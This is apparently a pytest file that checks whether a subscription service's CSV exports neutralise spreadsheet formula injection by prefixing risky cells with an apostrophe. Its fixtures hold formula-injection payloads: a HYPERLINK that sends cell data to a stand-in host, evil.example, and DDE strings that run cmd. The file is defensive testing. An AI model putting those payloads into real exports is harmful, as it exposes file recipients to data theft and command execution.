"""Every CSV mailmag writes shows each cell as text in a spreadsheet: a cell that a
spreadsheet would read as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return, their
full-width forms) gets a leading apostrophe, in the magazine export, the joint-use export and
the import's error report alike."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from subscriptions import csvfiles
from subscriptions.consent import Evidence
from subscriptions.db import for_writing
from subscriptions.joint_use import export_for
from subscriptions.models import ConsentChannel, ConsentPurpose, Magazine, StaffRole, Subscriber
from subscriptions.runtime import Runtime
from tests.mailer.test_api import token_for

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "company": "+81-3-1234-5678",
    "department": "-2+3+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "\t=1+1",
}
PLAIN = ("Hanako Yamada", "2026-11-28", "", "a=b", "株式会社 例え", "x@example.org")


def test_a_formula_start_gets_an_apostrophe_and_nothing_else_changes() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        assert csvfiles.cell(f"{start}1+1") == f"'{start}1+1"
    for value in PLAIN:
        assert csvfiles.cell(value) == value
    assert csvfiles.cell(42) == 42
    assert csvfiles.cell(None) is None


def test_both_writers_neutralise_every_cell_and_keep_the_text_readable() -> None:
    buffer = io.StringIO()
    csvfiles.writer(buffer).writerows([["line", "reason"], [7, "=cmd|' /C calc'!A0"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["line", "reason"],
        ["7", "'=cmd|' /C calc'!A0"],
    ]
    buffer = io.StringIO()
    writer = csvfiles.DictWriter(buffer, list(HOSTILE))
    writer.writeheader()
    writer.writerows([HOSTILE])
    [row] = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert row == {field: f"'{value}" for field, value in HOSTILE.items()}


def _hostile_person(app: FastAPI, engine: Engine) -> None:
    runtime: Runtime = app.state.runtime
    runtime.sync_magazines()
    evidence = Evidence(ConsentChannel.web_form, "192.0.2.1", "test", "a" * 64)
    lifecycle = runtime.optin.lifecycle
    with Session(for_writing(engine)) as session:
        weekly = session.exec(select(Magazine).where(Magazine.slug == "weekly")).one()
        person = Subscriber(
            email="hostile@example.org",
            address_digest=runtime.optin.hasher.digest("hostile@example.org"),
        )
        for field, value in HOSTILE.items():  # as an older release, or an import, stored them
            setattr(person, field, value)
        session.add(person)
        session.flush()
        lifecycle.request(session, person, weekly, evidence)
        lifecycle.confirm(session, person, evidence)
        lifecycle.grant_confirmed(session, person, ConsentPurpose.joint_use, evidence)
        session.commit()


def test_the_magazine_export_writes_no_formula(app: FastAPI, engine: Engine) -> None:
    _hostile_person(app, engine)
    officer = {"Authorization": f"Bearer {token_for(engine, StaffRole.privacy_officer)}"}
    fields = ",".join(["email", *HOSTILE])
    with TestClient(app) as client:
        answer = client.get(
            f"/api/v1/privacy/magazines/weekly/subscribers?fields={fields}", headers=officer
        )
        assert answer.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(answer.text)))
    assert row == {"email": "hostile@example.org"} | {f: f"'{v}" for f, v in HOSTILE.items()}


def test_the_joint_use_export_writes_no_formula(app: FastAPI, engine: Engine) -> None:
    _hostile_person(app, engine)
    runtime: Runtime = app.state.runtime
    with Session(for_writing(engine)) as session:
        export = export_for(session, runtime.registry, "sakura-solutions-jp")
        session.commit()
    [row] = list(csv.DictReader(io.StringIO(export.as_csv())))
    shared = {field: value for field, value in HOSTILE.items() if field in row}
    assert len(shared) >= 4
    assert all(row[field] == f"'{value}" for field, value in shared.items())
    assert export.rows[0]["name"] == HOSTILE["name"]  # the JSON export keeps the value


def test_no_module_writes_csv_but_through_csvfiles() -> None:
    """A new CSV writer that bypasses the rule fails here."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for package in ("subscriptions", "mailer")
        for path in Path(ROOT, package).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path.name != "csvfiles.py"
    ]
    assert found == []
